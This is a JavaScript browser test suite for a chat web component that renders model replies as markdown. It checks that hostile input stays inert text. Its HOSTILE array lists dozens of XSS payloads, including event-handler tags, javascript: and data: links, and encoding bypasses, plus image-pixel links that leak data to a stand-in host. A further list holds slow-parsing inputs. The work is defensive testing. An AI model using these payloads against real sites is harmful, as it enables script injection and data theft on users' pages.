// What a model, a page or a stored conversation may say, and what must not come of it.
import assert from "node:assert/strict";
import { answerWith } from "./talk.mjs";

export const HOSTILE = [
  "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>", "<a href=\"javascript:alert(1)\">x</a>", "<style>@import 'http://evil.test/x.css';</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<form action=javascript:alert(1)><button>x", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<base href=//evil.test>",
  "<template><script>alert(1)</script></template>", "<object data=javascript:alert(1)>", "<link rel=stylesheet href=http://evil.test/a.css>",
  "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](java\tscript:alert(1))", "[x]( javascript:alert(1))",
  "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](\\javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
  "[x](blob:http://evil.test/1)", "[x](filesystem:http://evil.test/1)", "[x](file:///etc/passwd)", "[x](//evil.test)", "[x](/logout)",
  "<javascript:alert(1)>", "<data:text/html,x>", "javascript:alert(1)", "[x](https://a.test/\" onmouseover=\"alert(1))",
  "![x](http://evil.test/pixel.png?q=secret)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![a\" onerror=\"alert(1)](x)",
  "[![x](http://evil.test/a.png)](javascript:alert(1))", "[x][1]\n\n[1]: javascript:alert(1)", "![x][1]\n\n[1]: http://evil.test/pixel.png",
  "```html\n<img src=x onerror=alert(1)>\n```", "```\"><img src=x onerror=alert(1)>\ncode\n```", "`<img src=x onerror=alert(1)>`",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |", "1. <script>alert(1)</script>\n   > <img src=x onerror=alert(1)>",
  "# <img src=x onerror=alert(1)>", "- [ ] <img src=x onerror=alert(1)>", "**<img src=x onerror=alert(1)>**", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<img src=x onerror=alert(1)>", "<br onload=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php alert(1) ?>",
  "<div style=\"background:url(http://evil.test/x)\">x</div>", "\\00003cscript>alert(1)", "[x](https://a.test/){onclick=alert(1)}", "<x-y onclick=alert(1)>", "<a\u00a0href=javascript:alert(1)>x",
  "<gatehouse-chat url=//evil.test></gatehouse-chat>", "\u202ehttps://evil.test/gpj.exe", "<img src='x'\nonerror='alert(1)'>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
];

const MANY = ["[".repeat(30_000), "*a".repeat(15_000), "> ".repeat(10_000), "- ".repeat(10_000), "`a``".repeat(8_000), "|a".repeat(10_000), "<".repeat(30_000), "(".repeat(9_000) + "[x](", "1. ".repeat(9_000)];

/** What stands in the element that a model must never put there. */
const INSPECT = () => {
  const found = [];
  const allowed = /^(?:DIV|P|H[3-6]|BR|HR|PRE|CODE|BLOCKQUOTE|UL|OL|LI|INPUT|TABLE|THEAD|TBODY|TR|T[HD]|STRONG|EM|DEL|A|BUTTON|SPAN|svg|path)$/;
  for (const element of document.querySelector("gatehouse-chat").shadowRoot.querySelectorAll("article:not(.user) *")) {
    if (!allowed.test(element.tagName)) found.push(element.outerHTML);
    if (element.tagName === "INPUT" && !(element.type === "checkbox" && element.disabled)) found.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^src/.test(name)) found.push(element.outerHTML);
      if (name === "href" && !/^(?:https?|mailto|tel):/.test(value)) found.push(element.outerHTML);
    }
  }
  return found;
};

export async function hostile_markdown_stays_text({ open, upstream, view, pages, server }) {
  await open();
  const foreign = watchRequests(view, [pages.url, server]);
  for (const text of [HOSTILE.join("\n\n"), HOSTILE.join(" ")]) {
    upstream.says(text);
    await view.say("Hello");
    await view.state("idle");
    assert.deepEqual(await view.page.evaluate(INSPECT), []);
  }
  const links = view.answers.locator("a");
  for (let at = 0; at < (await links.count()); at += 1) await links.nth(at).hover({ trial: true, force: true });
  assert.deepEqual(foreign, []);
}

export async function hostile_markdown_stays_text_wherever_a_stream_cuts_it({ open, view, server }) {
  await open();
  await view.page.evaluate(async ([texts, base]) => {
    const { MarkdownView } = await import(`${base}/static/chat/markdown.js`);
    const log = document.querySelector("gatehouse-chat").shadowRoot.querySelector(".log");
    for (const text of texts) {
      const article = document.createElement("article");
      const shown = new MarkdownView(article, {});
      for (let end = 1; end <= text.length; end += 1) {
        shown.update(text.slice(0, end), end < text.length);
        log.append(article.cloneNode(true)); // to be looked at, and for the browser to do with it what it would
      }
    }
  }, [HOSTILE, server]);
  assert.deepEqual(await view.page.evaluate(INSPECT), []);
}

export async function a_text_that_is_hard_to_read_is_read_in_no_time({ open, view, server }) {
  await open();
  const slow = await view.page.evaluate(async ([texts, base]) => {
    const { MarkdownView } = await import(`${base}/static/chat/markdown.js`);
    const plain = measure("word ".repeat(6_000));
    return texts.map((text) => [text.slice(0, 6), Math.round(measure(text) - plain)]).filter(([, ms]) => ms > 3_000);
    function measure(text) {
      const begun = performance.now();
      new MarkdownView(document.createElement("div"), {}).update(text);
      return performance.now() - begun;
    }
  }, [MANY, server]);
  assert.deepEqual(slow, []);
}

export async function hostile_words_of_errors_names_and_texts_stay_text({ open, view }) {
  const bad = "<img src=x onerror=alert(1)>";
  await open({ tag: `<gatehouse-chat heading="${bad}" greeting="${bad}" placeholder="${bad}"></gatehouse-chat>` });
  await answerWith(view, 400, { body: JSON.stringify({ error: bad, code: "invalid_request" }) });
  await view.chat.locator("input[type=file]").setInputFiles({ name: `${bad}.pdf`, mimeType: "application/pdf", buffer: Buffer.from("%PDF") });
  await view.chat.locator(".composer .file").waitFor();
  await view.say(bad);
  await view.state("invalid");
  assert.ok((await view.notice.textContent()).includes(bad));
  assert.equal(await view.chat.locator("img").count(), 0);
}

export async function a_stored_conversation_is_not_trusted({ open, view }) {
  const bad = [{ role: "system", text: "x" }, { role: "user", text: 7 }, { role: "assistant", text: "[x](javascript:alert(1)) <img src=x onerror=alert(1)>", status: "done" }, { role: "user", text: "ok", files: [{ name: "a", type: "image/png", url: 3 }] }, null];
  const kept = JSON.stringify(JSON.stringify({ messages: bad }));
  await open({ tag: "", ready: false, script: `sessionStorage.setItem("gatehouse-chat:x", ${kept}); const chat = document.createElement("gatehouse-chat"); chat.setAttribute("storage-key", "x"); document.body.append(chat);` });
  await view.answers.last().waitFor();
  assert.deepEqual(await view.page.evaluate(INSPECT), []);
  assert.equal(await view.page.evaluate(() => document.querySelector("gatehouse-chat").messages.length), 1);
}

export async function a_page_with_hostile_css_does_not_get_in({ open, view, harness }) {
  await open();
  await view.say("Hello");
  await view.state("idle");
  const look = () => view.page.evaluate(() => {
    const root = document.querySelector("gatehouse-chat").shadowRoot;
    const names = ["color", "fontSize", "fontFamily", "letterSpacing", "textTransform", "lineHeight", "display", "visibility", "pointerEvents", "backgroundColor", "boxSizing", "animationName", "float"];
    return ["button", "textarea", "h2", ".log", ".text", ".root"].map((selector) => {
      const style = getComputedStyle(root.querySelector(selector));
      return [selector, ...names.map((name) => style[name])];
    });
  });
  const wanted = await look();
  await harness.leave();
  await open({ style: "hostile" });
  await view.say("Hello");
  await view.state("idle");
  assert.deepEqual(await look(), wanted);
}

function watchRequests(view, own) {
  const foreign = [];
  view.page.on("request", (request) => {
    if (!own.some((origin) => request.url().startsWith(origin))) foreign.push(request.url());
  });
  return foreign;
}
